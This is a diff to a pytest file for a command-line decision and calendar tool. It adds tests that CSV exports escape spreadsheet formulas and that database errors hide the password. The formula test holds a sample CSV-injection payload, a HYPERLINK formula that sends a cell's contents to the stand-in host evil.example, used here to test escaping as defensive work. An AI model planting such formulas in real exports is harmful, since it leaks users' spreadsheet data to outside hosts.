@@ -284,9 +284,11 @@ def test_calendar_sync_from_a_file_with_the_guard(run: Any, tmp_path: Path) -> N
     calendar.write_text("\n".join(rows) + "\n", encoding="utf-8")
     env = {"CXBOT_CALENDAR_FILE": str(calendar)}
     preview = run("calendar", "sync", "--dry-run", env=env)
-    assert preview.exit_code == 0 and "would be new 3" in preview.stdout
+    # 4: synced (here: previewed), but a row could not be read — a scheduler can tell.
+    assert preview.exit_code == 4 and "would be new 3" in preview.stdout
     assert "row 5, column B (시작일) (value '어제')" in preview.output
     first = run("calendar", "sync", env=env)
+    assert first.exit_code == 4
     assert "new 3, changed 0" in first.stdout and "alert sent" in first.stdout
     assert run("calendar", "sync", env=env).stdout.count("unchanged since the last sync") == 1
     calendar.write_text(
@@ -364,3 +366,43 @@ def test_the_audit_report_in_english(run: Any) -> None:
     assert "intact (hash chain of" in markdown and "감사" not in markdown
     html = run("audit", "report", "-p", "Admin", "-f", "html", env=english).stdout
     assert '<html lang="en">' in html and "<th>Old → New</th>" in html
+
+
+def test_csv_exports_never_hand_a_spreadsheet_a_formula(run: Any) -> None:
+    import csv as csv_module
+    import io
+
+    formula = '=HYPERLINK("https://evil.example/?x="&A1,"보기")'
+    run(
+        "decision",
+        "add",
+        "-p",
+        "수식",
+        "-t",
+        "+SUM(1,2)",
+        "-d",
+        formula,
+        "--participant",
+        "@me: -1",
+    )
+    for args in (("audit", "report", "-p", "수식", "-f", "csv"), ("history", "--csv")):
+        rows = list(csv_module.reader(io.StringIO(run(*args).stdout)))
+        cells = [cell for row in rows[1:] for cell in row]
+        assert f"'{formula}" in cells and "'+SUM(1,2)" in cells
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells), args
+
+
+@pytest.mark.parametrize(
+    ("url", "says"),
+    [
+        ("postgresql+psycopg://cxbot:hunter2@127.0.0.1:1/cxbot", "cannot open the store"),
+        ("nosuchdb://somewhere/x", "not a database address"),
+    ],
+)
+def test_a_store_that_cannot_be_opened_is_named_without_a_traceback(
+    run: Any, url: str, says: str
+) -> None:
+    result = run("status", env={"CXBOT_DATABASE_URL": url})
+    assert result.exit_code == 1 and "Traceback" not in result.output
+    assert says in result.output and "CXBOT_DATABASE_URL" in result.output
+    assert "hunter2" not in result.output
